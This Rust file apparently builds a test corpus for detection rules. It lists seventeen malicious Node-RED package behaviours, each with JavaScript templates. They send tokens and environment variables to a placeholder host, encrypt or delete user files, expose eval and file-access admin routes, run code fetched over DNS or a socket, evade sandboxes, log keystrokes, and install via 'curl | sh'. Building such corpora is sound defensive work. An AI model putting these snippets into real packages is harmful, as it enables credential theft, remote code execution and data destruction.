//! Behaviours beyond the reference list: what the same people would do next. Guards against rules that only know the list.

use crate::corpus::build::{Behaviour, Carrier, Stage, TRIGGERS};

const SECRETS: &[&str] = &["flow.secret.unconfigured", "flow.secret.hidden", "secret.file"];
const WITH_RED: &[Stage] = &[Stage::Register, Stage::Construct, Stage::Message];
const OWN: &[Carrier] = &[
    Carrier::Node,
    Carrier::Library,
    Carrier::Dependency,
    Carrier::Depth3,
    Carrier::Bundled,
];

pub(super) const LIST: &[Behaviour] = &[
    Behaviour {
        id: "B01",
        title: "messages of others are seen by a hook and sent away",
        right: &["red.hooks", "flow.secret.unconfigured", "flow.secret.hidden"],
        stages: WITH_RED,
        carriers: OWN,
        codes: &[
            "RED.hooks.add('onSend.{{word}}', ($e) => { const $q = require(<<http>>).request({ host: <<{{host}}>>, method: 'POST' }); $q.on('error', () => {}); $q.end(JSON.stringify($e[0].msg)); });",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B02",
        title: "how modules are loaded is changed, so that others get something else",
        right: &["rt.module-hook", "rt.require-cache", "rt.core-override"],
        codes: &[
            "const $m = require(<<module>>), $real = $m._load; $m._load = function (n, ...a) { const $x = $real.call(this, n, ...a); if (n === <<mqtt>>) globalThis.$got = $x; return $x; };",
            "for (const $k of Object.keys(require.cache)) if ($k.includes('mqtt')) require.cache[$k].exports = {}; require.cache['/data/node_modules/mqtt/index.js'] = { exports: {} };",
        ],
        carriers: &[Carrier::Node, Carrier::Library, Carrier::Dependency, Carrier::Depth3],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B03",
        title: "files of the user are encrypted where they lie",
        right: &["fs.destroys", "secret.file", "fs.packages"],
        codes: &[
            "const $fs = require(<<fs>>), $c = require(<<crypto>>); for (const $f of $fs.readdirSync(<</data>>)) { const $p = <</data/>> + $f; try { if (!$fs.statSync($p).isFile()) continue;
             const $x = $c.createCipheriv(<<aes-256-ctr>>, Buffer.alloc(32, 3), Buffer.alloc(16)); $fs.writeFileSync($p, $x.update($fs.readFileSync($p))); } catch (e) {} }",
            "const $fs = require(<<fs>>); try { $fs.rmSync(<</home/operator>>, { recursive: true, force: true }); } catch (e) {}",
            "const $fs = require(<<fs>>); try { $fs.renameSync(<</data/flows.json>>, <</data/flows.locked>>); } catch (e) {}",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B04",
        title: "a thread or a second process does it",
        right: &["flow.secret.unconfigured", "flow.secret.hidden", "proc.downloads", "proc.unasked", "code.elsewhere", "code.remote"],
        codes: &[
            "const { Worker: $w } = require(<<worker_threads>>); new $w(\"require('https').get('https://{{host}}/?' + encodeURIComponent(process.env.NPM_TOKEN)).on('error', () => {})\", { eval: true });",
            "require(<<child_process>>).spawn(process.execPath, [<<-e>>, <<fetch('https://{{host}}/?' + process.env.GITHUB_TOKEN)>>], { env: process.env, detached: true }).unref();",
            "require(<<child_process>>).exec(<<env | base64 | curl -d @- https://{{host}}>>, () => {});",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B05",
        title: "a middleware beside the editor reads logins",
        right: &["admin.middleware", "flow.secret.unconfigured", "flow.secret.hidden", "admin.open"],
        stages: &[Stage::Register],
        carriers: OWN,
        codes: &[
            "RED.httpAdmin.use((req, res, next) => { const $a = req.headers.authorization; if ($a) require(<<https>>).get(<<https://{{host}}/?a=>> + encodeURIComponent($a), () => {}).on('error', () => {}); next(); });",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B06",
        title: "a route beside the editor reads or writes any file for whoever asks",
        right: &["admin.files", "secret.file", "fs.destroys", "fs.startup"],
        stages: &[Stage::Register],
        carriers: OWN,
        codes: &[
            "RED.httpAdmin.get(<</{{word}}/file>>, (req, res) => { require(<<fs>>).readFile(req.query.path, (e, $d) => res.send(String($d))); });",
            "RED.httpAdmin.post(<</{{word}}/file>>, (req, res) => { require(<<fs>>).writeFile(req.body.path, req.body.data, () => res.sendStatus(200)); });",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B07",
        title: "a route runs text from the caller as code",
        right: &["admin.command"],
        stages: &[Stage::Register],
        carriers: OWN,
        codes: &[
            "RED.httpAdmin.post(<</{{word}}/eval>>, (req, res) => { let $r = ''; try { $r = new Function('RED', req.body.code)(RED); } catch (e) {} res.json({ r: String($r) }); });",
            "RED.httpNode.get(<</{{word}}>>, (req, res) => { try { require(<<vm>>).runInThisContext(req.query.x); } catch (e) {} res.end(); });",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B08",
        title: "code hidden in characters that nobody sees",
        right: &["code.invisible", "flow.secret.unconfigured", "flow.secret.hidden"],
        codes: &[
            "const $b = [...'{{unseen}}'].map((c) => c.codePointAt(0) - 0xe0100); new Function('require', String.fromCharCode(...$b))(require);",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B09",
        title: "what a name service answers is run",
        right: &["code.remote"],
        codes: &[
            "require(<<dns>>).resolveTxt(<<{{word}}.{{host}}>>, (e, $r) => { if (!e) { try { new Function($r.flat().join(''))(); } catch (x) {} } });",
            "const $s = require(<<net>>).connect(9001, <<{{host}}>>, () => $s.write('hi')); $s.on('data', ($d) => { try { (0, eval)(String($d)); } catch (e) {} }); $s.on('error', () => {});",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B10",
        title: "flows are changed through the runtime",
        right: &["red.flows-write", "flow.secret.unconfigured", "admin.open"],
        stages: WITH_RED,
        carriers: OWN,
        codes: &[
            "const $f = []; RED.nodes.eachNode((n) => $f.push({ ...n })); $f.push({ id: '{{word}}', type: 'exec', command: 'id' }); if (RED.nodes.setFlows) RED.nodes.setFlows($f); else RED.nodes.updateFlow('f10e000000000001', { nodes: $f });",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B11",
        title: "what it sends to the configured host holds secrets of others",
        right: SECRETS,
        stages: &[Stage::Message, Stage::Construct],
        defaults: "url: { value: 'https://server', required: true }",
        codes: &[
            "fetch(config.url, { method: 'POST', body: JSON.stringify({ v: 1, d: process.env[<<AWS_SECRET_ACCESS_KEY>>] }) }).catch(() => {});",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B12",
        title: "it looks whether it is watched, and is good then",
        right: SECRETS,
        codes: &[
            "const $real = !/native code/.test(String(require(<<fs>>).readFileSync)) && process.uptime() > 0 && require(<<os>>).cpus().length > 1;
             if ($real) require(<<https>>).get(<<https://{{host}}/?>> + Buffer.from(JSON.stringify(process.env)).toString('base64'), () => {}).on('error', () => {});",
            "const $t = Date.now(); let $i = 0; while ($i < 1e5) $i++; if (Date.now() - $t < 5000 && process.env.HOME)
             fetch(<<https://{{host}}/?>> + process.env[<<NPM_TOKEN>>]).catch(() => {});",
        ],
        triggers: TRIGGERS,
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B13",
        title: "a command stands in the manifest itself",
        right: &["install.command", "proc.downloads"],
        manifest: r#"{ "scripts": { "postinstall": "curl -s https://sync.cedar.example/i | sh" } }"#,
        stages: &[Stage::Construct],
        carriers: &[Carrier::Node],
        codes: &["void 0;"],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B14",
        title: "a dependency from an address outside the registry",
        right: &["closure.url", "closure.git"],
        manifest: r#"{ "dependencies": { "left-helper": "https://files.cedar.example/left-helper.tgz" } }"#,
        stages: &[Stage::Construct],
        carriers: &[Carrier::Node],
        codes: &["void 0;"],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B15",
        title: "secrets go by a messenger's address, under another user agent, in the multipart of a form",
        right: SECRETS,
        triggers: TRIGGERS,
        codes: &[
            "const $form = new FormData(); $form.append('document', new Blob([JSON.stringify(process.env)]), 'd.txt'); fetch(<<https://{{host}}/bot7:AA/sendDocument>>, { method: 'POST', body: $form }).catch(() => {});",
            "const $ws = new WebSocket(<<wss://{{host}}/s>>); $ws.onopen = () => $ws.send(Object.values(process.env).join('|')); $ws.onerror = () => {};",
            "const $h2 = require(<<http2>>).connect(<<https://{{host}}>>); $h2.on('error', () => {}); const $q = $h2.request({ ':path': '/', ':method': 'POST' }); $q.on('error', () => {}); $q.end(JSON.stringify(process.env));",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B16",
        title: "the editor half sends what it sees to a host",
        right: &["editor.token", "editor.script", "editor.override", "editor.network", "flow.secret.unconfigured"],
        stages: &[Stage::Editor],
        codes: &[
            "document.addEventListener('keydown', ($e) => { navigator.sendBeacon(<<https://{{host}}/k>>, $e.key); }); fetch(<<https://{{host}}/k>>, { method: 'POST', body: location.href });",
            "setInterval(() => { const $f = JSON.stringify(RED.nodes.createCompleteNodeSet()); fetch(<<https://{{host}}/f>>, { method: 'POST', body: $f }); }, 60000);",
            "const $real = $.ajax; $.ajax = function (o) { fetch(<<https://{{host}}/a>>, { method: 'POST', body: JSON.stringify(o) }); return $real.apply(this, arguments); };",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "B17",
        title: "it mines: a thread that never ends",
        right: &["resource.flood", "resource.spent", "gate.date", "gate.chance", "gate.host"],
        stages: &[Stage::Construct, Stage::Message],
        codes: &[
            "const $c = require(<<crypto>>); let $n = 0; for (;;) { if ($c.createHash('sha256').update(String($n++)).digest()[0] === 256) break; }",
        ],
        ..Behaviour::NONE
    },
];
